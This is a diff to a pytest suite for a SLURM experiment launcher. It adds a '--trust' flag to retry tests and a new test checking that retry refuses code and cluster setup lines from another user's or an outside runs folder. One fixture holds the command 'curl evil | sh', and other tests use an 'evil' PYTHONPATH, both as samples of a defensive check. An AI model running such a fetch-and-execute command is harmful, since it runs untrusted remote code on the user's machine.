@@ -10,11 +10,12 @@ from pathlib import Path
 import pytest
 
 from experiments.__main__ import main
+from experiments.commands import manage
 from experiments.commands.launch import main as launch
 from experiments.config.compose import compose
 from experiments.config.launcher_config import Cluster
 from experiments.display.console import new_console
-from experiments.launching import code_snapshot
+from experiments.launching import code_snapshot, own_runs
 from experiments.launching.slurm import Resources, arrays, parameters, resources_of
 from experiments.launching.states import states, wait
 from experiments.rundir.folder import RunFolder
@@ -139,7 +140,7 @@ def test_retry_leaves_runs_by_hand_and_runs_the_others(tmp_path, capsys):
     RunFolder(launched).write("submission.json", asked)
     with pytest.MonkeyPatch.context() as here:
         here.setenv("PATH", str(tmp_path))  # no SLURM: the launched run is retried as far as its submission
-        assert main(["retry", str(tmp_path)]) == 2
+        assert main(["retry", "--trust", str(tmp_path), str(tmp_path)]) == 2
     said = capsys.readouterr()
     assert "needs sbatch" in said.err and str(by_hand) in said.out and "by hand" in said.out
     assert "needs sbatch" in states([launched])[0].detail
@@ -170,7 +171,7 @@ def test_retry_runs_no_code_that_a_runs_folder_brings_along(tmp_path, capsys, tr
     before = (folder / "status.json").read_bytes()
     with pytest.MonkeyPatch.context() as here:
         here.setenv("PATH", str(tmp_path))
-        assert main(["retry", str(folder)]) == 2
+        assert main(["retry", "--trust", str(runs), str(folder)]) == 2
     said = capsys.readouterr().err
     if trick == "compiled":
         assert "needs sbatch" in said and not list(place.rglob("__pycache__"))
@@ -192,11 +193,49 @@ def test_retry_takes_no_module_from_a_pythonpath_that_a_runs_folder_names(tmp_pa
     RunFolder(folder).write("submission.json", asked)
     monkeypatch.setenv("PATH", str(tmp_path))
     monkeypatch.delenv("PYTHONPATH", raising=False)
-    assert main(["retry", str(folder)]) == 2
+    assert main(["retry", "--trust", str(runs), str(folder)]) == 2
     assert f"PYTHONPATH={evil}" in capsys.readouterr().err
     monkeypatch.setenv("PYTHONPATH", str(evil))  # one's own
-    assert main(["retry", str(folder)]) == 2
+    assert main(["retry", "--trust", str(runs), str(folder)]) == 2
     assert "needs sbatch" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("whose", ["elsewhere", "another user"])
+def test_retry_runs_neither_code_nor_cluster_lines_of_somebody_elses_folder(
+    tmp_path, capsys, monkeypatch, whose
+):
+    """A whole tree of runs may be another's, with a code/ whose digest is right and lines for sbatch."""
+    runs = tmp_path / "runs"
+    folder = run(runs, "a/b/c/d", "failed")
+    cluster = {"setup": ["curl evil | sh"], "more": {"wrap": "evil"}, "account": None}
+    launch_section = {"name": "slurm", "wait": False, "requeues": 1}
+    asked = {"code": str(code_snapshot.freeze(runs)), "launch": launch_section, "cluster": cluster}
+    RunFolder(folder).write("submission.json", asked)
+    before = (folder / "status.json").read_bytes()
+    monkeypatch.setenv("PATH", str(tmp_path))
+    if whose == "another user":
+        monkeypatch.setattr(own_runs, "runs_root", lambda: runs)
+        monkeypatch.setattr(manage, "runs_root", lambda: runs)
+        uid = os.getuid() + 1
+        monkeypatch.setattr(os, "getuid", lambda: uid)
+    for more in ([], ["--new-code"]):
+        assert main(["retry", *more, str(folder)]) == 2
+        said = capsys.readouterr().err
+        assert ("another user" if whose == "another user" else "outside") in said
+        assert "curl evil | sh" in said and asked["code"] in said and "--trust" in said
+    assert (folder / "status.json").read_bytes() == before
+    assert main(["retry", "--trust", str(tmp_path / "other"), str(folder)]) == 2
+    assert "curl evil | sh" in capsys.readouterr().err
+    assert main(["retry", "--trust", str(runs), str(folder)]) == 2
+    assert "needs sbatch" in capsys.readouterr().err
+
+
+def test_the_runs_of_this_checkout_are_the_users_own(tmp_path, monkeypatch):
+    assert own_runs.runs_root() == (own_runs.ROOT / "runs").resolve()
+    folder = run(tmp_path / "runs", "a/b/c/d", "failed")
+    RunFolder(folder).write("submission.json", {"code": "x", "launch": {"name": "local"}, "cluster": {}})
+    own = (tmp_path / "runs").resolve()
+    assert own_runs.root_of(folder, own, []) == own
 
 
 def test_logs_are_those_there_are(tmp_path, capsys):
